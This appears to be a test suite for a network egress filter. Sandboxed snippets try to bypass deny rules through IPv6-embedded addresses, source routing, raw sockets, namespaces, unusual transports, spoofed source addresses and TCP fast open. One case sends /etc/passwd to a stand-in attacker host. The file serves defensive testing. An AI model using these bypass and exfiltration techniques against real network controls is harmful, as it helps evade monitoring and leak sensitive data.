# SPDX-License-Identifier: Apache-2.0
"""C. Protocol and path; B6 and D2, which are other ways to open a connection."""

import subprocess

from harness import Skip, blocked, case, contains, equal, found, refused, untouched, worked
from plan import EVIL4, EVIL6, GATEWAY4, GITHUB4, GITHUB6, JOB, JOB_ID, NAMELESS4, NAMELESS6

ALLOW = ["--allow-cidr", f"{GITHUB4}:7", "--allow-cidr", "[2001:db8:113::10]:7"]


@case("C1 direct connections to denied addresses of both families: EPERM at once, with full process facts")
def direct(lab):
    r = lab.attack(ALLOW, """
        report(pid=os.getpid(), v4=attempt(tcp, NAMELESS4, 443), v6=attempt(tcp, NAMELESS6, 443),
               other_port=attempt(tcp, GITHUB4, 22), allowed=attempt(tcp, GITHUB4, 7),
               allowed6=attempt(tcp, GITHUB6, 7))
        time.sleep(0.5)  # the executable is read from /proc
    """)
    refused(r, "v4", "v6", "other_port")
    worked(r, "allowed", "allowed6")
    for addr, port in ((NAMELESS4, 443), (NAMELESS6, 443), (GITHUB4, 22)):
        event = blocked(r, addr, port, pid=r.facts["pid"], uid=JOB_ID, blocked=True, would_deny=False)
        contains(event["executable"], "/python3", "executable")
        contains(event["process"], "python3", "process")
    untouched(lab, NAMELESS4, NAMELESS6)


@case("C1 IPv4 embedded in IPv6: mapped, compatible, 6to4, NAT64, scoped")
def dressed(lab):
    r = lab.attack(ALLOW, """
        report(mapped=attempt(tcp, "::ffff:" + NAMELESS4, 7), mapped_udp=attempt(udp, "::ffff:" + NAMELESS4, 7),
               compatible=attempt(tcp, "::" + NAMELESS4, 7), sixtofour=attempt(tcp, "2002:cb00:714d::1", 7),
               nat64=attempt(tcp, "64:ff9b::" + NAMELESS4, 7), scoped=attempt(tcp, "fe80::1%eth0", 7),
               allowed=attempt(tcp, "::ffff:" + GITHUB4, 7))
    """)
    refused(r, "mapped", "mapped_udp", "compatible", "sixtofour", "nat64", "scoped")
    worked(r, "allowed")
    blocked(r, NAMELESS4, 7)
    blocked(r, NAMELESS4, 7, "UDP")
    untouched(lab, NAMELESS4, "64:ff9b::cb00:714d", "2002:cb00:714d::1", "fe80::1")


@case("C2 ping sockets: echo with a payload is judged")
def ping_socket(lab):
    r = lab.attack(ALLOW, """
        def echo(addr, protocol, kind):
            with new_socket(addr, socket.SOCK_DGRAM, protocol) as s:
                s.sendto(bytes([kind, 0, 0, 0, 0, 1, 0, 1]) + b"DATA" * 8, (addr, 0))
                return len(s.recv(100))
        report(v4=attempt(echo, EVIL4, socket.IPPROTO_ICMP, 8))
        import attacker
        attacker.LIMIT = 0.5
        report(v6=attempt(echo, EVIL6, socket.IPPROTO_ICMPV6, 128))
    """)
    refused(r, "v4")
    # the kernel drops the packet but does not inform the sender (icmpv6_push_pending_frames ignores the result)
    assert r.facts["v6"].get("errno") in ("EPERM", "timeout"), r.facts["v6"]
    blocked(r, EVIL4, protocol="ICMP")
    blocked(r, EVIL6, protocol="ICMPv6")
    untouched(lab, EVIL4, EVIL6)


@case("C3 source routing: a detour over a denied address is judged by where the packet goes")
def source_route(lab):
    r = lab.attack(ALLOW, """
        import attacker
        attacker.LIMIT = 1
        IP_OPTIONS, IP_RETOPTS, IPV6_RTHDR = 4, 7, 57
        loose = b"\\x01\\x83\\x07\\x04" + socket.inet_aton(EVIL4)  # NOP, LSRR (RFC 791 3.1)
        segments = b"".join(socket.inet_pton(socket.AF_INET6, a) for a in (GITHUB6, EVIL6))
        header = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + segments  # segment routing (RFC 8754 2), by way of the last
        def route(addr, level, option, value, kind):
            with new_socket(addr, kind) as s:
                s.setsockopt(level, option, value)
                s.connect((addr, 7))
                s.send(b"out")
        def ancillary(addr, level, option, value):
            with new_socket(addr, socket.SOCK_DGRAM) as s:
                return s.sendmsg([b"out"], [(level, option, value)], 0, (addr, 7))
        four, six = (GITHUB4, socket.IPPROTO_IP), (GITHUB6, socket.IPPROTO_IPV6)
        for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
            report(**{f"v4 {kind.name}": attempt(route, *four, IP_OPTIONS, loose, kind),
                      f"v6 {kind.name}": attempt(route, *six, IPV6_RTHDR, header, kind)})
        report(v4_ancillary=attempt(ancillary, *four, IP_RETOPTS, loose),
               v6_ancillary=attempt(ancillary, *six, IPV6_RTHDR, header))
    """)
    equal((r.status, len(r.facts)), (0, 6), "status, attempts")
    refused(r, *(name for name in r.facts if name != "v6_ancillary"))
    assert "errno" in r.facts["v6_ancillary"], r.facts["v6_ancillary"]  # kernels differ in what they know
    equal(found(r, "protocol_blocked", protocol="TCP", process="python3")["reason"], "source_route", "reason")
    untouched(lab, EVIL4, EVIL6)


@case("C3 datagrams that are cut into fragments: all of one passes, or none")
def fragments(lab):
    r = lab.attack(ALLOW, """
        def large(addr):
            with new_socket(addr, socket.SOCK_DGRAM) as s:
                s.sendto(b"x" * 20000, (addr, 7))
                return len(s.recv(65535))
        report(v4=attempt(large, GITHUB4), v6=attempt(large, GITHUB6),
               denied=attempt(large, EVIL4), denied6=attempt(large, EVIL6))
    """)
    worked(r, "v4", "v6")
    refused(r, "denied", "denied6")
    untouched(lab, EVIL4, EVIL6)


RAW = """
        def make(*how):
            with socket.socket(*how) as s:
                return "made"
        report(icmp=attempt(make, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
               raw=attempt(make, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
               raw_tcp=attempt(make, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
               raw6=attempt(make, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW),
               icmp6=attempt(make, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
"""


@case("C4 raw and packet sockets are refused to root")
def raw(lab):
    r = lab.attack(ALLOW, RAW + """
        report(packet=attempt(make, socket.AF_PACKET, socket.SOCK_RAW, 0),
               dgram=attempt(make, socket.AF_PACKET, socket.SOCK_DGRAM, 0))
    """, user="root")
    refused(r, "icmp", "raw", "raw_tcp", "raw6", "icmp6", "packet", "dgram")


@case("C4 a user namespace gives the capability back: raw sockets are refused when they are made, and logged")
def raw_in_namespace(lab):
    r = lab.run(ALLOW, ["unshare", "--user", "--map-root-user", "--net", *lab.python(RAW)])
    if "unshare failed" in r.err:
        raise Skip("user namespaces are closed to users")
    refused(r, "icmp", "raw", "raw_tcp", "raw6", "icmp6")
    event = found(r, "protocol_blocked", blocked=True, process="python3")
    equal(event["reason"], "raw_socket", "reason")


@case("C5 SCTP, DCCP and MPTCP to a denied address")
def other_transports(lab):
    r = lab.attack(ALLOW, """
        def open(kind, protocol):
            with socket.socket(socket.AF_INET, kind, protocol) as s:
                s.settimeout(LIMIT)
                s.connect((EVIL4, 7))
        report(sctp=attempt(open, socket.SOCK_STREAM, 132), dccp=attempt(open, 6, 33),
               mptcp=attempt(open, socket.SOCK_STREAM, 262))
    """)
    untouched(lab, EVIL4)
    absent_here = ("EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "ENOPROTOOPT")
    tested = [name for name, fact in r.facts.items() if fact["errno"] not in absent_here]
    if not tested:
        raise Skip("this kernel has none of SCTP, DCCP, MPTCP")
    for name in tested:
        assert r.facts[name]["errno"] == "EPERM", f"{name}: {r.facts[name]}"


@case("C5 UDP-Lite to any address is refused: it cannot be judged")
def udplite(lab):
    r = lab.attack(ALLOW, """
        def send(addr, connected):
            with socket.socket(family_of(addr), socket.SOCK_DGRAM, IPPROTO_UDPLITE) as s:
                s.settimeout(LIMIT)
                if connected:
                    s.connect((addr, 7))
                    s.send(b"out")
                else:
                    s.sendto(b"out", (addr, 7))
        report(v4=attempt(send, EVIL4, False), v6=attempt(send, EVIL6, False), connected=attempt(send, EVIL4, True),
               allowed_address=attempt(send, GITHUB4, False))
    """)
    if r.facts["v4"].get("errno") == "EPROTONOSUPPORT":
        raise Skip("this kernel has no UDP-Lite")
    refused(r, "v4", "v6", "connected", "allowed_address")
    untouched(lab, EVIL4, EVIL6, GITHUB4)


@case("C6 a process in a new network and user namespace is still judged")
def namespaces(lab):
    source = "report(v4=attempt(tcp, NAMELESS4, 7), v6=attempt(udp, NAMELESS6, 7))"
    theirs = lab.dir / "internet-namespace"
    theirs.touch()
    lab.plain("mount", "--bind", f"/proc/{lab.internet}/ns/net", theirs)
    for user, how in ((JOB, ["unshare", "--user", "--map-root-user", "--net"]), ("root", ["unshare", "--net"]),
                      ("root", ["nsenter", f"--net={theirs}"])):
        r = lab.run(ALLOW, [*how, *lab.python(source)], user=user)
        if "unshare failed" in r.err:
            continue  # user namespaces may be closed to users
        refused(r, "v4", "v6")
        blocked(r, NAMELESS4, 7)
    lab.plain("umount", theirs)
    untouched(lab, NAMELESS4, NAMELESS6)


@case("C7 a second interface, added while the command runs")
def new_interface(lab):
    running = lab.start(ALLOW, lab.python("""
        report(up=True)
        input()
        report(bound=attempt(tcp, "10.88.0.1", 7), udp=attempt(udp, "10.88.0.1", 7))
    """), user="root")
    running.read_line()
    name = "eth1"
    try:
        lab.plain("sh", "-ec", f"ip link add {name} type veth peer name {name} netns {lab.internet}; "
                  f"ip addr add 10.88.0.2/24 dev {name}; ip link set {name} up")
        lab.plain("nsenter", f"--target={lab.internet}", "--net", "sh", "-ec",
                  f"ip addr add 10.88.0.1/24 dev {name}; ip link set {name} up")
        reachable = lab.plain(*lab.python("report(open=attempt(tcp, '10.88.0.1', 7))"))
        r = running.finish(b"go\n")
        lab.results.append(r)
    finally:
        lab.plain("ip", "link", "del", name)
    worked(reachable, "open")
    refused(r, "bound", "udp")


@case("C10 replies to a connection from outside are judged by the peer's address")
def inbound(lab):
    running = lab.start(ALLOW, lab.python("""
        with socket.create_server(("0.0.0.0", 9999)) as listener:
            report(up=True)
            listener.settimeout(2)
            report(accepted=attempt(lambda: listener.accept()[1][0]))
            input()  # a request that comes when there is no listener is answered by the kernel, with a reset
    """), stdin=subprocess.PIPE)
    running.read_line()
    lab.plain("nsenter", f"--target={lab.internet}", "--net", *lab.python("""
        import attacker
        attacker.LIMIT = 1
        report(outside=attempt(reach, CLIENT4, 9999))
    """))
    r = running.finish(b"\n")
    lab.results.append(r)
    equal(r.facts["accepted"].get("errno"), "timeout", "a connection from outside")
    found(r, "connection_blocked", dst_ip=GATEWAY4, protocol="TCP")
    untouched(lab, GATEWAY4)


@case("C12 one UDP socket: the first datagram to an allowed address, the next elsewhere")
def second_datagram(lab):
    r = lab.attack(ALLOW, """
        with new_socket(GITHUB4, socket.SOCK_DGRAM) as s:
            def exchange(addr):
                s.sendto(b"hello", (addr, 7))
                return s.recv(10).decode()
            report(first=attempt(exchange, GITHUB4), denied=attempt(exchange, EVIL4), again=attempt(exchange, GITHUB4))
        with new_socket(GITHUB6, socket.SOCK_DGRAM) as s:
            report(first6=attempt(exchange, GITHUB6), denied6=attempt(exchange, EVIL6),
                   mapped=attempt(exchange, "::ffff:" + EVIL4))
    """)
    worked(r, "first", "again", "first6")
    refused(r, "denied", "denied6", "mapped")
    blocked(r, EVIL4, 7, "UDP")
    blocked(r, EVIL6, 7, "UDP")
    untouched(lab, EVIL4, EVIL6)


@case("C13 connected UDP to a denied address; connected to an allowed one, then sendto elsewhere")
def connected_udp(lab):
    r = lab.attack(ALLOW, """
        report(v4=attempt(udp_connected, EVIL4, 7), v6=attempt(udp_connected, EVIL6, 7),
               other_port=attempt(udp_connected, GITHUB4, 8000),
               allowed=attempt(udp_connected, GITHUB4, 7))
        with new_socket(GITHUB4, socket.SOCK_DGRAM) as s:
            s.connect((GITHUB4, 7))
            report(elsewhere=attempt(s.sendto, b"out", (EVIL4, 7)),
                   elsewhere_msg=attempt(s.sendmsg, [b"out"], [], 0, (EVIL4, 7)))
    """)
    refused(r, "v4", "v6", "other_port", "elsewhere", "elsewhere_msg")
    worked(r, "allowed")
    untouched(lab, EVIL4, EVIL6)


@case("C13 connect again, and after AF_UNSPEC")
def reconnect(lab):
    r = lab.attack(ALLOW, """
        with new_socket(GITHUB4, socket.SOCK_DGRAM) as s:
            s.connect((GITHUB4, 7))
            def send():
                s.connect((EVIL4, 7))
                s.send(b"out")
            report(again=attempt(send))
            disconnect(s)
            report(after_unspec=attempt(send), sendto=attempt(s.sendto, b"out", (EVIL4, 7)))
        with new_socket(GITHUB4, socket.SOCK_STREAM) as s:
            s.connect((GITHUB4, 7))
            disconnect(s)
            report(tcp_after_unspec=attempt(s.connect, (EVIL4, 7)))
    """)
    refused(r, "again", "after_unspec", "sendto", "tcp_after_unspec")
    untouched(lab, EVIL4)


@case("C13 sendmmsg: the denied datagrams of a batch stay, whatever comes before them")
def batch(lab):
    r = lab.attack(ALLOW, """
        report(denied=attempt(sendmmsg, [(EVIL4, 7), (GITHUB4, 7)]),
               mixed=attempt(sendmmsg, [(GITHUB4, 7), (EVIL4, 7), (GITHUB4, 7)]))
    """)
    refused(r, "denied")
    equal(r.facts["mixed"].get("value"), 1, "datagrams sent of a batch whose second is denied")
    untouched(lab, EVIL4)


@case("C13 MSG_ZEROCOPY and segmentation offload")
def zerocopy(lab):
    r = lab.attack(ALLOW, """
        with new_socket(EVIL4, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
            report(zerocopy=attempt(s.sendto, b"x" * 1000, MSG_ZEROCOPY, (EVIL4, 7)))
            s.setsockopt(17, 103, 500)  # UDP_SEGMENT
            report(gso=attempt(s.sendto, b"x" * 1000, (EVIL4, 7)))
            s.connect((GITHUB4, 7))
            report(gso_allowed=attempt(s.send, b"x" * 1000))
    """)
    refused(r, "zerocopy", "gso")
    worked(r, "gso_allowed")
    untouched(lab, EVIL4)


@case("C13 sendfile and splice need a connection, and that is refused")
def sendfile(lab):
    r = lab.attack(ALLOW, """
        def send_file():
            with new_socket(EVIL4, socket.SOCK_DGRAM) as s, open("/etc/passwd", "rb") as f:
                s.connect((EVIL4, 7))
                return os.sendfile(s.fileno(), f.fileno(), 0, 100)
        report(sendfile=attempt(send_file))
    """)
    refused(r, "sendfile")
    untouched(lab, EVIL4)


GROUPS = """
        IP, IPV6 = socket.IPPROTO_IP, socket.IPPROTO_IPV6
        eth0 = socket.if_nametoindex("eth0")
        def packed(group):
            return socket.inet_pton(family_of(group), group)
        def storage(addr):  # struct sockaddr_storage
            head = struct.pack("=HH", family_of(addr), 0) + (bytes(4) if ":" in addr else b"")
            return (head + packed(addr)).ljust(128, b"\\0")
        def join(group, option, value):
            with new_socket(group, socket.SOCK_DGRAM) as s:
                s.setsockopt(IPV6 if ":" in group else IP, option, value)
                return "joined"
        def members(g4, g6):
            me, source4, source6 = packed(CLIENT4), b"SECR", b"SECRET, 16 bytes"
            index, from6 = struct.pack("=I4x", eth0), socket.inet_ntop(socket.AF_INET6, source6)
            return {
                "add": attempt(join, g4, 35, packed(g4) + me),
                "add by index": attempt(join, g4, 35, packed(g4) + bytes(4) + struct.pack("=i", eth0)),
                "add source": attempt(join, g4, 39, packed(g4) + me + source4),
                "join": attempt(join, g4, 42, index + storage(g4)),
                "join source": attempt(join, g4, 46, index + storage(g4) + storage("203.0.113.5")),
                "add6": attempt(join, g6, 20, packed(g6) + struct.pack("=I", eth0)),
                "join6": attempt(join, g6, 42, index + storage(g6)),
                "join source6": attempt(join, g6, 46, index + storage(g6) + storage(from6)),
            }
"""


@case("C14 group memberships: whatever the kernel would announce for the job is judged by the group")
def groups(lab):
    options = [*ALLOW, "--allow-cidr", "239.1.2.4", "--allow-cidr", "224.0.0.251:5353/udp", "--allow-cidr", "[ff02::fb]:5353/udp"]
    allowed, source = (("239.1.2.4", "ff02::fb"), ("224.0.0.251", "ff02::fb")), GROUPS
    for i, (g4, g6) in enumerate(allowed):
        source += f"        report(**{{f'allowed {i} {{k}}': v for k, v in members({g4!r}, {g6!r}).items()}})\n"
    source += """
        denied = members("239.83.69.67", "ff02:5345:4352:4554::1")  # SEC, SECRET
        report(**denied)
        report(all_hosts=attempt(join, "224.0.0.1", 35, packed("224.0.0.1") + packed(CLIENT4)),
               routers=attempt(join, "ff02::2", 20, packed("ff02::2") + struct.pack("=I", eth0)), n=len(denied))
        with new_socket(CLIENT4, socket.SOCK_DGRAM) as s:  # a member of an allowed group chooses its sources
            s.setsockopt(IP, 35, packed("239.1.2.4") + packed(CLIENT4))
            report(block=attempt(s.setsockopt, IP, 38, packed("239.83.69.67") + packed(CLIENT4) + b"SECR"))
    """
    r = lab.attack(options, source)
    names = [name for name in r.facts if not name.startswith("allowed") and name not in ("all_hosts", "n")]
    equal(len(names), r.facts["n"] + 2, "attempts")
    refused(r, *names)
    worked(r, "all_hosts", *(name for name in r.facts if name.startswith("allowed")))
    blocked(r, "239.83.69.67", protocol="IGMP", uid=JOB_ID)
    event = blocked(r, "ff02:5345:4352:4554::1", protocol="ICMPv6")
    equal((event["reason"], "dst_port" in event), ("default", False), "reason, port")
    audit = lab.attack(["--mode", "audit"], GROUPS + """
        report(**members("239.83.69.67", "ff02:5345:4352:4554::1"))
    """)
    worked(audit, *audit.facts)
    found(audit, "connection_blocked", dst_ip="239.83.69.67", would_deny=True)


@case("C15 a source that is not the machine's: an allowed server would answer somebody else")
def sources(lab):
    r = lab.attack(ALLOW, """
        IPV6_FREEBIND, IPV6_PKTINFO, IPV6_TRANSPARENT, IP_TRANSPARENT = 78, 50, 75, 19
        import attacker
        attacker.LIMIT = 1
        def open(addr, kind, level, option):
            s = new_socket(addr, kind)
            s.setsockopt(level, option, 1)
            return s
        def bound(addr, server, level, option, kind=socket.SOCK_DGRAM, connected=False):
            with open(addr, kind, level, option) as s:
                s.bind((addr, 5555))
                if not connected:
                    return s.sendto(b"forged", (server, 7))
                s.connect((server, 7))
                return s.send(b"forged")
        def named(s, addr):
            info = socket.inet_pton(socket.AF_INET6, addr) + struct.pack("=I", 0)
            return s.sendmsg([b"forged"], [(socket.IPPROTO_IPV6, IPV6_PKTINFO, info)], 0, (GITHUB6, 7))
        six, four = (socket.IPPROTO_IPV6, IPV6_FREEBIND), (socket.IPPROTO_IP, IP_TRANSPARENT)
        report(bound=attempt(bound, EVIL6, GITHUB6, *six), connected=attempt(bound, EVIL6, GITHUB6, *six, connected=True),
               by_ipv4_option=attempt(bound, EVIL6, GITHUB6, socket.IPPROTO_IP, 15),
               transparent=attempt(bound, NAMELESS6, GITHUB6, socket.IPPROTO_IPV6, IPV6_TRANSPARENT),
               transparent4=attempt(bound, EVIL4, GITHUB4, *four))
        report(tcp=attempt(bound, EVIL6, GITHUB6, *six, socket.SOCK_STREAM, True),
               tcp4=attempt(bound, EVIL4, GITHUB4, *four, socket.SOCK_STREAM, True))
        with open(GITHUB6, socket.SOCK_DGRAM, *six) as s:
            report(named=attempt(named, s, NAMELESS6))
            s.sendto(b"hello", (GITHUB6, 7))
            report(first=attempt(lambda: s.recv(10).decode()), later=attempt(named, s, NAMELESS6),
                   mine=attempt(named, s, CLIENT6))
        report(bound_to_mine=attempt(bound, CLIENT6, GITHUB6, *six), tcp_mine=attempt(bound, CLIENT6, GITHUB6, *six,
               socket.SOCK_STREAM, True))
    """, user="root")
    refused(r, "bound", "connected", "by_ipv4_option", "transparent", "transparent4", "named", "later")
    worked(r, "first", "mine", "bound_to_mine", "tcp_mine")
    for name in "tcp", "tcp4":
        assert "errno" in r.facts[name], f"{name}: {r.facts[name]}"
    equal(blocked(r, GITHUB6, 7, "UDP", src_ip=EVIL6)["reason"], "source", "reason")
    equal(blocked(r, GITHUB6, 7, "TCP", src_ip=EVIL6)["reason"], "source", "reason")
    equal(lab.packets(GITHUB6, 17, 7), 3, "datagrams with a source of this machine")
    equal(lab.packets(GITHUB4), 0, "packets to the IPv4 server")
    untouched(lab, EVIL4, EVIL6, NAMELESS6)


@case("C15 a source that is not the machine's, to its own loopback: the kernel's answer would quote the packet")
def reflected(lab):
    r = lab.attack(ALLOW, """
        import attacker
        attacker.LIMIT = 1
        def bound(addr, to, kind=socket.SOCK_DGRAM, connected=False):
            with new_socket(addr, kind) as s:
                s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
                s.bind((addr, 0))
                if not connected:
                    return s.sendto(b"SECRET" * 50, (to, 9))
                s.connect((to, 9))
                return s.send(b"SECRET" * 50)
        report(alone=attempt(bound, EVIL6, "::1"), neighbor=attempt(bound, "fd77::77", "::1"),
               connected=attempt(bound, EVIL6, "::1", connected=True),
               connected_neighbor=attempt(bound, "fd77::77", "::1", connected=True),
               other=attempt(bound, NAMELESS6, CLIENT6), tcp=attempt(bound, EVIL6, "::1", socket.SOCK_STREAM, True),
               tcp_other=attempt(bound, NAMELESS6, CLIENT6, socket.SOCK_STREAM, True),
               near=attempt(bound, "::1", "::1"), mine=attempt(bound, CLIENT6, "::1", connected=True))
        time.sleep(0.5)
    """)
    refused(r, "alone", "neighbor", "connected", "connected_neighbor", "other")
    worked(r, "near", "mine")
    for name in "tcp", "tcp_other":
        assert "errno" in r.facts[name], f"{name}: {r.facts[name]}"
    equal(found(r, "connection_blocked", dst_ip="::1", dst_port=9, protocol="UDP")["reason"], "source", "reason")
    untouched(lab, EVIL6, NAMELESS6, "ff02::1:ff00:77")


@case("B6 TCP fast open: data in the first packet does not pass the verdict by")
def fast_open(lab):
    r = lab.attack(ALLOW, """
        def fast(addr, port):
            with new_socket(addr, socket.SOCK_STREAM) as s:
                return s.sendto(b"out", MSG_FASTOPEN, (addr, port))
        def fast_connect(addr, port):
            with new_socket(addr, socket.SOCK_STREAM) as s:
                s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
                s.connect((addr, port))
                return s.send(b"out")
        report(v4=attempt(fast, EVIL4, 7), v6=attempt(fast, EVIL6, 7), later=attempt(fast_connect, EVIL4, 7),
               mapped=attempt(fast, "::ffff:" + EVIL4, 7))
    """)
    refused(r, "v4", "v6", "later", "mapped")
    untouched(lab, EVIL4, EVIL6)


@case("B7 QUIC: UDP 443 of an address allowed for TCP 443 is refused")
def quic(lab):
    r = lab.attack(["--allow", "github.com:443/tcp"], """
        resolve("github.com")
        report(tcp=attempt(reach, GITHUB4, 443), quic=attempt(udp, GITHUB4, 443), quic6=attempt(udp, GITHUB6, 443))
    """)
    worked(r, "tcp")
    refused(r, "quic", "quic6")
